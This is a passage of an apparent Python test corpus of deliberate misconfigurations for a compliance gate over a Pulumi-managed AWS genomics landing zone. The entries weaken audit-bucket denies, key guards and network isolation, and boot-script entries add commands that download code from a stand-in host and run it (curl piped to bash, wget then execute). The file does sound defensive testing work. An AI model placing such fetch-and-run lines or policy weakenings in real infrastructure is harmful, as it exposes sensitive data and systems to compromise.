        "variant-calling job role: AmazonElasticFileSystemClientReadWriteAccess attached",
        attach(
            "compute-job-variant-calling",
            JOB_VARIANT_CALLING,
            "arn:aws:iam::aws:policy/AmazonElasticFileSystemClientReadWriteAccess",
        ),
        "GLZ-IAM-016",
    ),
    # GLZ-KMS-001: rotation
    W(
        "compute key: enableKeyRotation unset (defaults false)",
        drop_prop(KEY, "keys-compute", "enableKeyRotation"),
        "GLZ-KMS-001",
    ),
    W(
        "a key added from outside without rotation",
        key("b7e1c0de-0000-4000-8000-000000000001", enableKeyRotation=False),
        "GLZ-KMS-001",
    ),
    W(
        "data key: rotation every 400 days",
        set_prop(KEY, "keys-data", "rotationPeriodInDays", 400),
        "GLZ-KMS-001",
    ),
    # GLZ-KMS-002: deletion window
    W(
        "logs key: deletion window 29 days",
        set_prop(KEY, "keys-logs", "deletionWindowInDays", 29),
        "GLZ-KMS-002",
    ),
    W(
        "data key: deletion window 14 days",
        set_prop(KEY, "keys-data", "deletionWindowInDays", 14),
        "GLZ-KMS-002",
    ),
    W(
        "a key added from outside with the 7-day minimum",
        key("b7e1c0de-0000-4000-8000-000000000002", deletionWindowInDays=7),
        "GLZ-KMS-002",
    ),
    # GLZ-KMS-004: symmetric encrypt/decrypt keys
    W(
        "logs key turned into an HMAC key",
        combine(
            set_prop(KEY, "keys-logs", "customerMasterKeySpec", "HMAC_256"),
            set_prop(KEY, "keys-logs", "keyUsage", "GENERATE_VERIFY_MAC"),
        ),
        "GLZ-KMS-004",
    ),
    W(
        "compute key for signing (keyUsage SIGN_VERIFY, ECC spec)",
        combine(
            set_prop(KEY, "keys-compute", "keyUsage", "SIGN_VERIFY"),
            set_prop(KEY, "keys-compute", "customerMasterKeySpec", "ECC_NIST_P256"),
        ),
        "GLZ-KMS-004",
    ),
    W(
        "a key added from outside: RSA_4096 encrypt/decrypt",
        key("b7e1c0de-0000-4000-8000-000000000003", customerMasterKeySpec="RSA_4096"),
        "GLZ-KMS-004",
    ),
    # GLZ-LOG-002: log file validation
    W(
        "trail: enableLogFileValidation unset (defaults false)",
        drop_prop(TRAIL, "audit", "enableLogFileValidation"),
        "GLZ-LOG-002",
    ),
    W(
        "a second trail added from outside without validation",
        add(
            TRAIL,
            "data-events-trail",
            {
                "name": "glz-demo-data-events",
                "s3BucketName": AUDIT,
                "kmsKeyId": f"arn:aws:kms:{REGION}:{ACCT}:key/25bbd72c-7ba7-5f2f-b76f-4fe1f40880e0",
                "isMultiRegionTrail": True,
                "enableLogging": True,
                "enableLogFileValidation": False,
            },
        ),
        "GLZ-LOG-002",
    ),
    # GLZ-LOG-014: unusual management activity is analyzed (CloudTrail Insights)
    W(
        "trail: insightSelectors removed (trailInsights false)",
        drop_prop(TRAIL, "audit", "insightSelectors"),
        "GLZ-LOG-014",
    ),
    W(
        "trail: Insights emptied (PutInsightSelectors [])",
        set_prop(TRAIL, "audit", "insightSelectors", []),
        "GLZ-LOG-014",
    ),
    W(
        "trail: only API error rates analyzed (call-rate bursts unseen)",
        set_prop(TRAIL, "audit", "insightSelectors", [{"insightType": "ApiErrorRateInsight"}]),
        "GLZ-LOG-014",
    ),
    W(
        "trail: management events narrowed to reads, so call-rate Insights analyze nothing",
        edit_prop(
            TRAIL,
            "audit",
            "advancedEventSelectors",
            lambda selectors: [
                {**s, "fieldSelectors": [*s["fieldSelectors"], {"field": "readOnly", "equals": ["true"]}]}
                if s["fieldSelectors"][0].get("equals") == ["Management"]
                else s
                for s in selectors
            ],
        ),
        "GLZ-LOG-014",
    ),
    W(
        "Insights moved to a second trail added from outside that is not logging",
        combine(
            drop_prop(TRAIL, "audit", "insightSelectors"),
            add(
                TRAIL,
                "insights-trail",
                {
                    "name": "glz-demo-insights",
                    "s3BucketName": AUDIT,
                    "isMultiRegionTrail": True,
                    "enableLogging": False,
                    "enableLogFileValidation": True,
                    "insightSelectors": [{"insightType": t} for t in ("ApiCallRateInsight", "ApiErrorRateInsight")],
                },
            ),
        ),
        "GLZ-LOG-014",
    ),
    # GLZ-LOG-003: trail under the log key
    W(
        "trail: kmsKeyId exported empty (SSE-S3)",
        combine(
            drop_prop(TRAIL, "audit", "kmsKeyId"),
            lambda d: named(d, TRAIL, "audit")["outputs"].update(kmsKeyId=""),
        ),
        "GLZ-LOG-003",
    ),
    W(
        "a second trail added from outside without a KMS key",
        add(
            TRAIL,
            "data-events-trail",
            {
                "name": "glz-demo-data-events",
                "s3BucketName": AUDIT,
                "isMultiRegionTrail": True,
                "enableLogging": True,
                "enableLogFileValidation": True,
            },
        ),
        "GLZ-LOG-003",
    ),
    # GLZ-LOG-008: alarm topic encryption
    W(
        "alarm topic: kmsMasterKeyId exported empty",
        combine(
            drop_prop(TOPIC, "audit-alarms", "kmsMasterKeyId"),
            lambda d: named(d, TOPIC, "audit-alarms")["outputs"].update(kmsMasterKeyId=""),
        ),
        "GLZ-LOG-008",
    ),
    W(
        "a pipeline-notification topic added from outside, unencrypted",
        add(
            TOPIC,
            "pipeline-notifications",
            {
                "name": "glz-demo-pipeline-notifications",
                "arn": f"arn:aws:sns:{REGION}:{ACCT}:glz-demo-pipeline-notifications",
            },
        ),
        "GLZ-LOG-008",
    ),
    # GLZ-NET-001: flow logs of all traffic
    W(
        "flow log records rejected traffic only",
        set_prop(FLOW_LOG, "network-flow-log", "trafficType", "REJECT"),
        "GLZ-NET-001",
    ),
    W(
        "flow log narrowed to one subnet",
        combine(
            drop_prop(FLOW_LOG, "network-flow-log", "vpcId"),
            set_prop(FLOW_LOG, "network-flow-log", "subnetId", SUBNET_1A),
            lambda d: named(d, FLOW_LOG, "network-flow-log")["propertyDependencies"].pop("vpcId"),
        ),
        "GLZ-NET-001",
    ),
    # GLZ-NET-002: the default security group allows nothing
    W(
        "default SG: the AWS default egress (all to 0.0.0.0/0) put back",
        set_prop(
            DEFAULT_SG,
            "network-default-sg",
            "egress",
            [{"protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["0.0.0.0/0"]}],
        ),
        "GLZ-NET-002",
    ),
    W(
        "default SG: HTTPS from the VPC",
        set_prop(
            DEFAULT_SG,
            "network-default-sg",
            "ingress",
            [{"protocol": "tcp", "fromPort": 443, "toPort": 443, "cidrBlocks": ["10.40.0.0/16"]}],
        ),
        "GLZ-NET-002",
    ),
    # GLZ-NET-006: interface endpoints with private DNS
    W(
        "logs endpoint: privateDnsEnabled unset (defaults false)",
        drop_prop(ENDPOINT, "network-logs", "privateDnsEnabled"),
        "GLZ-NET-006",
    ),
    W(
        "a VPC added from outside without interface endpoints",
        add(VPC, "analytics-vpc", {"cidrBlock": "10.41.0.0/16", "enableDnsSupport": True}),
        "GLZ-NET-006",
    ),
    # GLZ-NET-011: traffic stays inside the landing zone
    W(
        "compute SG: an egress rule from outside to 0.0.0.0/0 without NAT egress",
        add(
            SG_EGRESS,
            "compute-sg-https-anywhere",
            {
                "securityGroupId": COMPUTE_SG,
                "ipProtocol": "tcp",
                "fromPort": 443,
                "toPort": 443,
                "cidrIpv4": "0.0.0.0/0",
            },
        ),
        "GLZ-NET-011",
    ),
    W(
        "compute SG: inline egress to ::/0",
        set_prop(
            SG,
            "compute-sg",
            "egress",
            [{"protocol": "tcp", "fromPort": 443, "toPort": 443, "ipv6CidrBlocks": ["::/0"]}],
        ),
        "GLZ-NET-011",
    ),
    W(
        "endpoints SG: admits all of 10.0.0.0/8, wider than the VPC",
        edit_prop(SG, "network-endpoints", "ingress", lambda rules: rules[0].update(cidrBlocks=["10.0.0.0/8"])),
        "GLZ-NET-011",
    ),
    W(
        "an interface endpoint to another party's PrivateLink service",
        add(
            ENDPOINT,
            "partner-sftp",
            {
                "serviceName": "com.amazonaws.vpce.us-east-1.vpce-svc-0a1b2c3d4e5f60718",
                "vpcEndpointType": "Interface",
                "vpcId": VPC_ID,
                "privateDnsEnabled": False,
                "subnetIds": [SUBNET_1A],
                "securityGroupIds": [ENDPOINTS_SG],
            },
        ),
        "GLZ-NET-011",
    ),
    W(
        "VPC peering with another account",
        add(
            PEERING,
            "partner-peering",
            {"vpcId": VPC_ID, "peerVpcId": "vpc-0feedfacecafe0001", "peerOwnerId": FOREIGN, "autoAccept": False},
        ),
        "GLZ-NET-011",
    ),
    # GLZ-PHI-001: services outside the AWS BAA
    W(
        "a Lightsail instance for a results portal",
        add(
            "aws:lightsail/instance:Instance",
            "results-portal",
            {"name": "glz-demo-portal", "blueprintId": "ubuntu_22_04"},
        ),
        "GLZ-PHI-001",
    ),
    W(
        "an App Runner service for a variant browser",
        add(
            "aws:apprunner/service:Service",
            "variant-browser",
            {"serviceName": "glz-demo-variant-browser"},
        ),
        "GLZ-PHI-001",
    ),
    W(
        "a Managed Grafana workspace over the job logs",
        add(
            "aws:grafana/workspace:Workspace",
            "pipeline-dashboards",
            {
                "accountAccessType": "CURRENT_ACCOUNT",
                "authenticationProviders": ["AWS_SSO"],
                "permissionType": "SERVICE_MANAGED",
            },
        ),
        "GLZ-PHI-001",
    ),
    # GLZ-PHI-002: resources the gate cannot classify
    W(
        "a bucket through the aws-native (Cloud Control) provider",
        add("aws-native:s3:Bucket", "cc-results", {"bucketName": "glz-demo-cc-results"}),
        "GLZ-PHI-002",
    ),
    W(
        "a Google Cloud Storage bucket in the same stack",
        add("gcp:storage/bucket:Bucket", "gcs-mirror", {"name": "glz-demo-gcs-mirror", "location": "US"}),
        "GLZ-PHI-002",
    ),
    W(
        "an AWS module the eligibility list does not name (Comprehend)",
        add(
            "aws:comprehend/documentClassifier:DocumentClassifier",
            "report-classifier",
            {"name": "glz-demo-report-classifier", "languageCode": "en"},
        ),
        "GLZ-PHI-002",
    ),
    # GLZ-S3-002: versioning
    W(
        "access-log bucket: versioning status Disabled",
        edit_prop(
            VERSIONING,
            "data-access-logs-versioning",
            "versioningConfiguration",
            lambda v: v.update(status="Disabled"),
        ),
        "GLZ-S3-002",
    ),
    W(
        "a bucket added from outside without versioning",
        outside_bucket("exports"),
        "GLZ-S3-002",
    ),
    # GLZ-S3-004: ACLs disabled
    W(
        "access-log bucket: BucketOwnerPreferred (ACLs back for log delivery)",
        edit_prop(
            OWNERSHIP, "data-access-logs-ownership", "rule", lambda r: r.update(objectOwnership="BucketOwnerPreferred")
        ),
        "GLZ-S3-004",
    ),
    W(
        "variants bucket: ownership controls removed",
        remove(OWNERSHIP, "data-variants-ownership"),
        "GLZ-S3-004",
    ),
    # GLZ-S3-008: access logging and forceDestroy
    W(
        "results bucket: access logs to a bucket outside the stack",
        set_prop(LOGGING, "data-results-logging", "targetBucket", "central-s3-logs-999988887777"),
        "GLZ-S3-008",
    ),
    W(
        "fastq bucket: access logs to the audit bucket instead",
        set_prop(LOGGING, "data-fastq-logging", "targetBucket", AUDIT),
        "GLZ-S3-008",
    ),
    W(
        "variants bucket: forceDestroy on",
        set_prop(BUCKET, "data-variants", "forceDestroy", True),
        "GLZ-S3-008",
    ),
    # GLZ-S3-009: housekeeping lifecycle rules
    W(
        "fastq lifecycle: abort-incomplete-multipart rule removed",
        drop_lifecycle_rule("data-fastq-lifecycle", "abort-incomplete-multipart-uploads"),
        "GLZ-S3-009",
    ),
    W(
        "alignments lifecycle: noncurrent-version rule Disabled",
        lifecycle_rule(
            "data-alignments-lifecycle", "expire-noncurrent-versions", lambda r: r.update(status="Disabled")
        ),
        "GLZ-S3-009",
    ),
    W(
        "audit lifecycle: noncurrentVersionExpiration dropped from its rule",
        lifecycle_rule("audit-bucket-lifecycle", "expire-noncurrent-versions", pop("noncurrentVersionExpiration")),
        "GLZ-S3-009",
    ),
    # GLZ-S3-010: variants and reference never expire
    W(
        "reference lifecycle: objects expire on a date",
        edit_prop(
            LIFECYCLE,
            "data-reference-lifecycle",
            "rules",
            lambda rules: rules.append(
                {
                    "id": "retire-grch37",
                    "status": "Enabled",
                    "filter": {"prefix": ""},
                    "expiration": {"date": "2027-01-01T00:00:00Z"},
                }
            ),
        ),
        "GLZ-S3-010",
    ),
    W(
        "variants lifecycle: the noncurrent-version rule also expires current gVCFs",
        lifecycle_rule(
            "data-variants-lifecycle", "expire-noncurrent-versions", lambda r: r.update(expiration={"days": 1825})
        ),
        "GLZ-S3-010",
    ),
    W(
        "variants lifecycle: scratch gVCFs under a prefix expire after 30 days",
        edit_prop(
            LIFECYCLE,
            "data-variants-lifecycle",
            "rules",
            lambda rules: rules.append(
                {"id": "gvcf-scratch", "status": "Enabled", "filter": {"prefix": "gvcf/"}, "expiration": {"days": 30}}
            ),
        ),
        "GLZ-S3-010",
    ),
    # GLZ-S3-011 (advisory): raw, read and alignment tiers have tiering
    W(
        "bcl lifecycle: the Glacier tiering rule removed",
        drop_lifecycle_rule("data-bcl-lifecycle", "tiering"),
        "GLZ-S3-011",
    ),
    W(
        "fastq lifecycle: the tiering rule Disabled",
        lifecycle_rule("data-fastq-lifecycle", "tiering", lambda r: r.update(status="Disabled")),
        "GLZ-S3-011",
    ),
    W(
        "alignments lifecycle configuration removed",
        remove(LIFECYCLE, "data-alignments-lifecycle"),
        "GLZ-S3-011",
    ),
    # GLZ-S3-014: audit records indestructible
    W(
        "audit bucket: the destruction deny removed",
        policy(BUCKET_POLICY, "audit-bucket-policy", drop_statement("DenyAuditRecordDestruction")),
        "GLZ-S3-014",
    ),
    W(
        "audit bucket: the destruction deny exempts the admin role",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement("DenyAuditRecordDestruction", set_keys(Condition={"ArnNotLike": {"aws:PrincipalArn": ADMIN}})),
        ),
        "GLZ-S3-014",
    ),
    W(
        "audit bucket: the destruction deny applies only without MFA",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement(
                "DenyAuditRecordDestruction",
                set_keys(Condition={"BoolIfExists": {"aws:MultiFactorAuthPresent": "false"}}),
            ),
        ),
        "GLZ-S3-014",
    ),
    W(
        "audit bucket: the destruction deny on the bucket ARN only (objects unguarded)",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement("DenyAuditRecordDestruction", set_keys(Resource=f"arn:aws:s3:::{AUDIT}")),
        ),
        "GLZ-S3-014",
    ),
    W(
        "audit bucket: the destruction deny rewritten as NotPrincipal admin",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement("DenyAuditRecordDestruction", set_keys(Principal=None, NotPrincipal={"AWS": ADMIN})),
        ),
        "GLZ-S3-014",
    ),
    W(
        "audit bucket: DeleteObjectVersion left out of the deny",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            statement(
                "DenyAuditRecordDestruction",
                lambda s: s.update(Action=[a for a in s["Action"] if a != "s3:DeleteObjectVersion"]),
            ),
        ),
        "GLZ-S3-014",
    ),
    # GLZ-TAG-001: markings that understate what the stack is
    W(
        "results bucket marked DataClassification public",
        edit_prop(BUCKET, "data-results", "tags", lambda t: t.update(DataClassification="public")),
        "GLZ-TAG-001",
    ),
    W(
        "provider default tags say internal",
        edit_prop(
            PROVIDER,
            "aws",
            "defaultTags",
            in_json(lambda d: d["tags"].update(DataClassification="internal")),
        ),
        "GLZ-TAG-001",
    ),
    W(
        "launch template marks job volumes public",
        edit_prop(
            LT,
            "compute-launch-template",
            "tagSpecifications",
            lambda specs: specs[0]["tags"].update(DataClassification="public"),
        ),
        "GLZ-TAG-001",
    ),
    W(
        "variants bucket: DataTier tag removed",
        edit_prop(BUCKET, "data-variants", "tags", pop("DataTier")),
        "GLZ-TAG-001",
    ),
]


def boot_script(edit: Callable[[str], str], template: str = "compute-launch-template") -> Change:
    """Edit the launch template's user data (base64 of a MIME multipart) as the shell script it holds."""

    def change(value: str) -> str:
        text = base64.b64decode(value).decode()
        closing = text.rstrip("\n").rsplit("\n", 1)[-1]  # the MIME closing boundary
        head, tail = text[: text.rindex(closing)], text[text.rindex(closing) :]
        return base64.b64encode((edit(head) + tail).encode()).decode()

    return edit_prop(LT, template, "userData", change)


def job_role_of(job: str, role: str) -> Change:
    """Point a job definition at another role of the stack (by its ARN in the state)."""

    def mutate(document: Document) -> None:
        arn = named(document, ROLE, role)["outputs"]["arn"]
        container(job, lambda c: c.update(jobRoleArn=arn))(document)

    return mutate


CORPUS += [
    # GLZ-CMP-015: code fetched at boot, in three forms
    W(
        "boot script pipes a downloaded script into bash",
        boot_script(lambda t: t + "curl -fsSL https://x.example/a.sh | bash\n"),
        "GLZ-CMP-015",
    ),
    W(
        "boot script copies a binary from a bucket outside the stack and runs it",
        boot_script(
            lambda t: t + "aws s3 cp s3://tools-elsewhere/agent /usr/local/bin/agent && /usr/local/bin/agent\n"
        ),
        "GLZ-CMP-015",
    ),
    W(
        "boot script: wget into a file, then chmod and run",
        boot_script(lambda t: t + "wget -qO /tmp/i https://x.example/i && chmod +x /tmp/i && /tmp/i\n"),
        "GLZ-CMP-015",
    ),
    # GLZ-CMP-016: one stage given another stage's role, three ways
    W(
        "variant calling runs with the alignment job role",
        job_role_of("variant-calling", "compute-job-alignment"),
        "GLZ-CMP-016",
    ),
    W(
        "alignment runs with the variant-calling job role",
        job_role_of("alignment", "compute-job-variant-calling"),
        "GLZ-CMP-016",
    ),
    W(
        "a new job definition reuses the alignment job role",
        lambda d: add(
            JOB,
            "compute-job-definition-debug",
            {
                "name": "glz-demo-debug",
                "type": "container",
                "containerProperties": json.dumps(
                    {"image": "x", "jobRoleArn": named(d, ROLE, "compute-job-alignment")["outputs"]["arn"]}
                ),
            },
        )(d),
        "GLZ-CMP-016",
    ),
]


def audit_bucket_statement(sid: str, edit: Callable[[dict], None]) -> Change:
    return policy(BUCKET_POLICY, "audit-bucket-policy", statement(sid, edit))


def _only_objects(s: dict) -> None:
    s["Resource"] = s.pop("NotResource")[0] + "/*"


def _widen_exemption(s: dict) -> None:
    s["NotResource"] = [s["NotResource"][0], s["NotResource"][0] + "/AWSLogs/*"]


CORPUS += [
    # GLZ-LOG-009: the digest delivery refused, three ways
    W(
        "audit bucket: SSE-KMS-only deny covers the digest prefix again",
        audit_bucket_statement("DenyNonKmsEncryption", _only_objects),
        "GLZ-LOG-009",
    ),
    W(
        "audit bucket: digests must be SSE-KMS",
        audit_bucket_statement(
            "DenyUnencryptedDigests",
            lambda s: s["Condition"]["StringNotEqualsIfExists"].update({"s3:x-amz-server-side-encryption": "aws:kms"}),
        ),
        "GLZ-LOG-009",
    ),
    W(
        "audit bucket: a new statement denies non-KMS uploads under AWSLogs/",
        policy(
            BUCKET_POLICY,
            "audit-bucket-policy",
            lambda d: d["Statement"].append(
                {
                    "Sid": "LogsKmsOnly",
                    "Effect": "Deny",
                    "Principal": "*",
                    "Action": "s3:Put*",
                    "Resource": d["Statement"][0]["Resource"][0] + "/AWSLogs/*",
                    "Condition": {"StringNotEquals": {"s3:x-amz-server-side-encryption": "aws:kms"}},
                }
            ),
        ),
        "GLZ-LOG-009",
    ),
    # GLZ-S3-006: the digest exemption widened to every log file. Only the delivering services write there
    # (DenyRecordsNotFromDeliveringServices), so the widening matters once that deny is gone too.
    W(
        "audit bucket: SSE-S3 allowed for every CloudTrail log file, and anyone may write there",
        combine(
            audit_bucket_statement("DenyNonKmsEncryption", _widen_exemption),
            policy(BUCKET_POLICY, "audit-bucket-policy", drop_statement("DenyRecordsNotFromDeliveringServices")),
        ),
        "GLZ-S3-006",
    ),
]


def stack_output(key: str, value: Any) -> Change:
    def mutate(document: Document) -> None:
        stack = find(document, "pulumi:pulumi:Stack")[0]
        stack["outputs"][key] = value

    return mutate


def endpoint_exemptions(bucket: str, edit: Callable[[list], None]) -> Change:
    return policy(
        BUCKET_POLICY,
        f"data-{bucket}-policy",
        statement("DenyAccessOutsideVpcEndpoint", lambda s: edit(s["Condition"]["ArnNotLike"]["aws:PrincipalArn"])),
    )


DEPLOYER = f"arn:aws:iam::{ACCT}:role/pulumi-deployer"
SLR = f"arn:aws:iam::{ACCT}:role/aws-service-role/*"

CORPUS += [
    # GLZ-S3-015: the deployer locked out, three ways
    W("no deployer named in the stack", stack_output("deployerPrincipalArns", []), "GLZ-S3-015"),
    W(
        "variants bucket: deployer dropped from the endpoint-only exemptions",
        endpoint_exemptions("variants", lambda e: e.remove(DEPLOYER)),
        "GLZ-S3-015",
    ),
    W(
        "fastq bucket: a new deny refuses bucket-policy changes to all but the admin",
        policy(
            BUCKET_POLICY,
            "data-fastq-policy",
            lambda d: d["Statement"].append(
                {
                    "Sid": "OnlyAdminRewritesPolicy",
                    "Effect": "Deny",
                    "Principal": "*",
                    "Action": ["s3:PutBucketPolicy", "s3:DeleteBucketPolicy"],
                    "Resource": d["Statement"][0]["Resource"][0],
                    "Condition": {"ArnNotEquals": {"aws:PrincipalArn": f"arn:aws:iam::{ACCT}:role/glz-demo-admin"}},
                }
            ),
        ),
        "GLZ-S3-015",
    ),
    # GLZ-S3-016: AWS Config or Access Analyzer refused on a data bucket
    W(
        "bcl bucket: service-linked roles no longer exempt",
        endpoint_exemptions("bcl", lambda e: e.remove(SLR)),
        "GLZ-S3-016",
    ),
    W(
        "results bucket: only Config's service-linked role exempt (Access Analyzer blind)",
        endpoint_exemptions(
            "results",
            lambda e: e.__setitem__(e.index(SLR), f"arn:aws:iam::{ACCT}:role/aws-service-role/config.amazonaws.com/*"),
        ),
        "GLZ-S3-016",
    ),
    W(
        "alignments bucket: a new deny refuses every service-linked role",
        policy(
            BUCKET_POLICY,
            "data-alignments-policy",
            lambda d: d["Statement"].append(
                {
                    "Sid": "NoServiceRoles",
                    "Effect": "Deny",
                    "Principal": {"AWS": "*"},
                    "Action": "s3:Get*",
                    "Resource": [d["Statement"][0]["Resource"][0], d["Statement"][0]["Resource"][0] + "/*"],
                    "Condition": {"ArnLike": {"aws:PrincipalArn": f"arn:aws:iam::{ACCT}:role/aws-service-role/*"}},
                }
            ),
        ),
        "GLZ-S3-016",
    ),
]


CORPUS += [
    # GLZ-IAM-017: a service-linked role named but neither created, adopted nor declared
    W(
        "the Auto Scaling service-linked role is no longer created (the compute key names it)",
        remove("aws:iam/serviceLinkedRole:ServiceLinkedRole", "service-linked-roles-autoScaling"),
        "GLZ-IAM-017",
    ),
    W(
        "the Config service-linked role is no longer created (the recorder names it)",
        remove("aws:iam/serviceLinkedRole:ServiceLinkedRole", "service-linked-roles-config"),
        "GLZ-IAM-017",
    ),
    W(
        "data key policy names the Access Analyzer service-linked role nobody creates",
        policy(
            "aws:kms/key:Key",
            "keys-data",
            lambda d: d["Statement"].append(
                {
                    "Sid": "AnalyzerReads",
                    "Effect": "Allow",
                    "Principal": {
                        "AWS": f"arn:aws:iam::{ACCT}:role/aws-service-role/access-analyzer.amazonaws.com/"
                        "AWSServiceRoleForAccessAnalyzer"
                    },
                    "Action": "kms:DescribeKey",
                    "Resource": "*",
                }
            ),
        ),
        "GLZ-IAM-017",
    ),
]


CORPUS += [
    # GLZ-ACC-012: a service declared held by the organization, still created by the stack
    W(
        "GuardDuty declared held by the organization, detector still created",
        stack_output("organizationServices", ["guardDuty"]),
        "GLZ-ACC-012",
    ),
    W(
        "AWS Config declared held by the organization, recorder still created",
        stack_output("organizationServices", ["awsConfig"]),
        "GLZ-ACC-012",
    ),
    W(
        "password policy declared held by the organization, still set by the stack",
        stack_output("organizationServices", ["passwordPolicy", "s3AccountPublicAccessBlock"]),
        "GLZ-ACC-012",
    ),
]


def open_data_statement(edit: Callable[[dict], Any]) -> Change:
    """Edit the S3 gateway endpoint's Registry of Open Data statement."""

    def change(document: dict) -> None:
        for entry in document["Statement"]:
            if entry.get("Sid") == "RegistryOfOpenDataReadOnly":
                edit(entry)

    return edit_prop("aws:ec2/vpcEndpoint:VpcEndpoint", "network-s3-gateway", "policy", in_json(change))


def session_inputs(edit: Callable[[dict], Any]) -> Change:
    """Edit the inputs of the stack's Session Manager preferences (SSM-SessionManagerRunShell)."""

    def change(content: dict) -> None:
        edit(content["inputs"])

    return edit_prop("aws:ssm/document:Document", "compute-session-manager-preferences", "content", in_json(change))


def loader_statement(edit: Callable[[dict], None]) -> Change:
    return policy(EFS_POLICY, "compute-reference-policy", statement("LoaderWritesThroughItsAccessPoint", edit))


def mount_loader_point(job: str) -> Change:
    """Give another job the loader's access point (its reference volume, read-write)."""

    def mutate(document: Document) -> None:
        point = named(document, "aws:efs/accessPoint:AccessPoint", "compute-reference-loader")["outputs"]["id"]

        def edit(c: dict) -> None:
            for volume in c["volumes"]:
                if "efsVolumeConfiguration" in volume:
                    volume["efsVolumeConfiguration"]["authorizationConfig"]["accessPointId"] = point
            for mount in c["mountPoints"]:
                if mount["containerPath"] == "/reference":
                    mount["readOnly"] = False

        container(job, edit)(document)

    return mutate


CORPUS += [
    # GLZ-IAM-016 / GLZ-CMP-012: the one writer of the reference file system, widened
    W(
        "reference loader grant widened to the alignment job role too",
        loader_statement(
            lambda st: st["Condition"]["ArnEquals"].update(
                {
                    "aws:PrincipalArn": [
                        st["Condition"]["ArnEquals"]["aws:PrincipalArn"],
                        f"arn:aws:iam::{ACCT}:role/{JOB_ALIGNMENT}",
                    ]
                }
            )
        ),
        "GLZ-IAM-016",
    ),
    W(
        "reference loader grant also gives root access",
        loader_statement(lambda st: st.update(Action=[*st["Action"], "elasticfilesystem:ClientRootAccess"])),
        "GLZ-IAM-016",
    ),
    W(
        "reference loader grant no longer tied to its access point",
        loader_statement(lambda st: st["Condition"].pop("StringEquals")),
        "GLZ-IAM-016",
    ),
    W(
        "variant calling mounts the loader's access point read-write",
        mount_loader_point("variant-calling"),
        "GLZ-CMP-012",
    ),
    W("alignment mounts the loader's access point read-write", mount_loader_point("alignment"), "GLZ-IAM-016"),
    # GLZ-S3-017: data reads only for their purpose (the bucket's own deny), weakened in several forms
    W(
        "variants: the purpose-read deny removed",
        policy(BUCKET_POLICY, "data-variants-policy", drop_statement("DenyObjectReadsOutsidePurpose")),
        "GLZ-S3-017",
    ),
    W(
        "fastq: purpose-read deny exempts every role of the account (wildcard)",
        policy(
            BUCKET_POLICY,
            "data-fastq-policy",
            statement("DenyObjectReadsOutsidePurpose", exempt(f"arn:aws:iam::{ACCT}:role/*")),
        ),
        "GLZ-S3-017",
    ),
    W(
        "results: purpose-read deny exempts the admin role",
        policy(BUCKET_POLICY, "data-results-policy", statement("DenyObjectReadsOutsidePurpose", exempt(ADMIN))),
        "GLZ-S3-017",
    ),
    W(
        "alignments: purpose-read deny narrowed to GetObjectVersion",
        policy(
            BUCKET_POLICY,
            "data-alignments-policy",
            statement("DenyObjectReadsOutsidePurpose", lambda st: st.update(Action="s3:GetObjectVersion")),
        ),
        "GLZ-S3-017",
    ),
    W(
        "bcl: purpose-read deny's ArnNotLike turned into ArnLike (denies only the readers)",
        policy(
            BUCKET_POLICY,
            "data-bcl-policy",
            statement(
                "DenyObjectReadsOutsidePurpose",
                lambda st: st["Condition"].update(ArnLike=st["Condition"].pop("ArnNotLike")),
            ),
        ),
        "GLZ-S3-017",
    ),
    W(
        "reference: the instance role may read it again (policy grant and purpose-deny exemption)",
        combine(
            inline(
                "instance",
                "glz-demo-batch-instance",
                {"Sid": "Ref", "Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"},
            ),
            policy(
                BUCKET_POLICY,
                "data-reference-policy",
                statement("DenyObjectReadsOutsidePurpose", exempt(f"arn:aws:iam::{ACCT}:role/glz-demo-batch-instance")),
            ),
        ),
        "GLZ-S3-017",
    ),
    # GLZ-S3-010: precious tiers keep overwritten versions for the retention period
    W(
        "variants: overwritten versions expire after 90 days again",
        lifecycle_rule(
            "data-variants-lifecycle",
            "expire-noncurrent-versions",
            lambda r: r.update(noncurrentVersionExpiration={"noncurrentDays": 90}),
        ),
        "GLZ-S3-010",
    ),
    W(
        "results: a second rule expires noncurrent versions after a week",
        edit_prop(
            LIFECYCLE,
            "data-results-lifecycle",
            "rules",
            lambda rules: rules.append(
                {
                    "id": "tidy",
                    "status": "Enabled",
                    "filter": {"prefix": "tmp/"},
                    "noncurrentVersionExpiration": {"noncurrentDays": 7},
                }
            ),
        ),
        "GLZ-S3-010",
    ),
    W(
        "reference: noncurrent expiry written as a string of one day",
        lifecycle_rule(
            "data-reference-lifecycle",
            "expire-noncurrent-versions",
            lambda r: r.update(noncurrentVersionExpiration={"noncurrentDays": "1"}),
        ),
        "GLZ-S3-010",
    ),
    # GLZ-S3-018: history and configuration
    W(
        "fastq: version destruction deny removed",
        policy(BUCKET_POLICY, "data-fastq-policy", drop_statement("DenyVersionDestructionButBreakGlass")),
        "GLZ-S3-018",
    ),
    W(
        "variants: version destruction deny now only denies DeleteObject (versions deletable)",
        policy(
            BUCKET_POLICY,
            "data-variants-policy",
            statement("DenyVersionDestructionButBreakGlass", lambda st: st.update(Action=["s3:DeleteObject"])),
        ),
        "GLZ-S3-018",
    ),
    W(
        "alignments: version destruction deny exempts the alignment job",
        policy(
            BUCKET_POLICY,
            "data-alignments-policy",
            statement("DenyVersionDestructionButBreakGlass", exempt(f"arn:aws:iam::{ACCT}:role/{JOB_ALIGNMENT}")),
        ),
        "GLZ-S3-018",
    ),
    W(
        "results: configuration deny no longer covers lifecycle changes",
        policy(
            BUCKET_POLICY,
            "data-results-policy",
            statement(
                "DenyConfigurationChangesButDeployer",
                lambda st: st.update(Action=[a for a in st["Action"] if a != "s3:PutLifecycleConfiguration"]),
            ),
        ),
        "GLZ-S3-018",
    ),
    W(
        "access logs: the deletion deny removed",
        policy(BUCKET_POLICY, "data-access-logs-policy", drop_statement("DenyAccessLogDestructionButBreakGlass")),
        "GLZ-S3-018",
    ),
    # GLZ-KMS-005: the keys' own destruction guard
    W(
        "data key: destruction deny removed",
        policy(KEY, "keys-data", drop_statement("DenyKeyDestructionButBreakGlass")),
        "GLZ-KMS-005",
    ),
    W(
        "log key: destruction deny exempts every role of the account",
